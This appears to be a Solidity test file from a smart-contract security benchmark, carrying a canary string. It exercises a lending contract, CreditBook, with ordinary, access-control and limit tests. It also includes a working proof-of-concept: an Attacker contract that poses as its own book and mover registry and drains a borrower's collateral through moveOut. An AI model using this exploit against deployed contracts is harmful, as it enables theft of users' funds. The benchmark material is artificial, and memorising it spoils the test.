// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

// assay-canary-5051617e-d5ed-4a55-92d4-e624f9dc2fe1

import {ERC20} from "@openzeppelin/contracts@4.9.6/token/ERC20/ERC20.sol";
import "./CreditBook.sol";

interface Vm {
    function expectRevert(bytes calldata reason) external;
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
}

contract Token is ERC20 {
    constructor(string memory n) ERC20(n, n) {
        _mint(msg.sender, 10_000_000e18);
    }
}

/// A book and a roll of its own.
contract Attacker {
    function go(CreditBook k, address o) external {
        (uint128 g, uint128 d) = k.accounts(o);
        k.moveOut(CreditBook.Move(o, IBook(address(this)), g, d));
    }

    function roll() external view returns (address) {
        return address(this);
    }

    function mover(address) external pure returns (bool) {
        return true;
    }

    function moveIn(address, uint256, uint256) external {}
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address private constant MOVER = address(0x30BE4);
    address private constant KIT = address(0x111);
    address private constant LOU = address(0x10D);

    Token public gold;
    Token public coin;
    Roll public roll;
    CreditBook public k;
    CreditBook public next;
    Attacker public x;

    function setUp() public {
        gold = new Token("GOLD");
        coin = new Token("COIN");
        roll = new Roll();
        k = new CreditBook(gold, coin, roll, 10);
        next = new CreditBook(gold, coin, roll, 12);
        roll.setMover(MOVER, true);
        roll.setMover(address(k), true);
        coin.transfer(address(k), 500_000e18);
        coin.transfer(address(next), 500_000e18);
        _put(k, KIT, 1_000e18);
        _put(k, LOU, 500e18);
        vm.prank(KIT);
        k.borrow(4_000e18);
        x = new Attacker();
    }

    function _put(CreditBook b, address o, uint128 g) private {
        gold.transfer(o, g);
        vm.startPrank(o);
        gold.approve(address(b), g);
        b.put(g);
        vm.stopPrank();
    }

    function _has(CreditBook b, address o, uint256 g, uint256 d) private view {
        (uint128 hg, uint128 hd) = b.accounts(o);
        require(hg == g && hd == d, "account");
    }

    function test_Regular() public {
        _has(k, KIT, 1_000e18, 4_000e18);
        require(coin.balanceOf(KIT) == 4_000e18, "borrowed");
        vm.prank(KIT);
        k.take(200e18);
        vm.startPrank(KIT);
        coin.approve(address(k), type(uint256).max);
        k.repay(KIT, 1_000e18);
        vm.stopPrank();
        _has(k, KIT, 800e18, 3_000e18);
        vm.prank(MOVER);
        k.moveOut(CreditBook.Move(KIT, next, 500e18, 2_500e18));
        _has(k, KIT, 300e18, 500e18);
        _has(next, KIT, 500e18, 2_500e18);
        require(gold.balanceOf(address(next)) == 500e18 && coin.balanceOf(address(k)) == 499_500e18, "moved");
        vm.prank(MOVER);
        k.moveOut(CreditBook.Move(LOU, next, 500e18, 0));
        _has(next, LOU, 500e18, 0);
        next.setPrice(14);
        vm.prank(LOU);
        next.borrow(3_500e18);
        vm.prank(KIT);
        coin.transfer(LOU, 500e18);
        vm.startPrank(LOU);
        coin.approve(address(k), 500e18);
        k.repay(KIT, 500e18);
        coin.approve(address(next), 3_500e18);
        next.repay(LOU, 3_500e18);
        next.take(500e18);
        vm.stopPrank();
        vm.prank(MOVER);
        k.moveIn(LOU, 0, 0);
        k.setOpen(false);
        k.setPrice(11);
        vm.prank(KIT);
        k.take(300e18);
        require(gold.balanceOf(KIT) == 500e18 && gold.balanceOf(LOU) == 500e18, "taken");
        k.transferOwnership(LOU);
        vm.prank(LOU);
        k.acceptOwnership();
        vm.prank(LOU);
        k.renounceOwnership();
        next.setOpen(true);
        _put(next, KIT, 1e18);
        vm.prank(KIT);
        next.borrow(1e18);
        // The other direction, from a book that is moved into to one that is not shut.
        CreditBook third = new CreditBook(gold, coin, roll, 10);
        coin.transfer(address(third), 1e18);
        roll.setMover(address(next), true);
        vm.prank(MOVER);
        next.moveOut(CreditBook.Move(KIT, third, 1e18, 1e18));
        _has(third, KIT, 1e18, 1e18);
        vm.prank(address(next));
        third.moveIn(LOU, 0, 0);
        vm.prank(address(k));
        next.moveIn(LOU, 0, 0);
    }

    function test_RefusesStrangers() public {
        vm.startPrank(KIT);
        bytes memory why = abi.encodeWithSignature("Error(string)", "Ownable: caller is not the owner");
        vm.expectRevert(why);
        k.setPrice(1);
        vm.expectRevert(why);
        k.setOpen(false);
        vm.expectRevert(why);
        roll.setMover(KIT, true);
        vm.expectRevert(abi.encodeWithSelector(CreditBook.NotMover.selector));
        k.moveOut(CreditBook.Move(KIT, next, 1, 0));
        vm.expectRevert(abi.encodeWithSelector(CreditBook.NotMover.selector));
        k.moveIn(KIT, 1, 0);
        vm.stopPrank();
    }

    function test_RefusesAmounts() public {
        bytes memory much = abi.encodeWithSelector(CreditBook.TooMuch.selector);
        bytes memory bare = abi.encodeWithSelector(CreditBook.Bare.selector);
        vm.startPrank(KIT);
        vm.expectRevert(much);
        k.take(1_000e18 + 1);
        vm.expectRevert(bare);
        k.take(200e18 + 1);
        vm.expectRevert(bare);
        k.borrow(1_000e18 + 1);
        vm.expectRevert(much);
        k.repay(KIT, 4_000e18 + 1);
        vm.stopPrank();
        vm.startPrank(MOVER);
        vm.expectRevert(much);
        k.moveOut(CreditBook.Move(KIT, next, 1_000e18 + 1, 4_000e18));
        vm.expectRevert(much);
        k.moveOut(CreditBook.Move(KIT, next, 1_000e18, 4_000e18 + 1));
        vm.expectRevert(bare);
        k.moveOut(CreditBook.Move(KIT, next, 201e18, 0));
        vm.expectRevert(bare);
        k.moveIn(LOU, 0, 2_501e18);
        vm.stopPrank();
        vm.expectRevert(abi.encodeWithSelector(CreditBook.Zero.selector));
        k.setPrice(0);
    }

    function test_RefusesShut() public {
        k.setOpen(false);
        bytes memory why = abi.encodeWithSelector(CreditBook.Shut.selector);
        vm.startPrank(KIT);
        vm.expectRevert(why);
        k.put(0);
        vm.expectRevert(why);
        k.borrow(1);
        vm.stopPrank();
        vm.prank(MOVER);
        vm.expectRevert(why);
        k.moveIn(KIT, 1, 0);
    }

    function exploit() public {
        x.go(k, KIT);
    }

    function test_Exploit() public {
        exploit();
        require(gold.balanceOf(address(x)) >= 1_000e18, "no gain");
    }

    function target() public view returns (address) {
        return address(k);
    }

    function attacker() public view returns (address) {
        return address(x);
    }
}
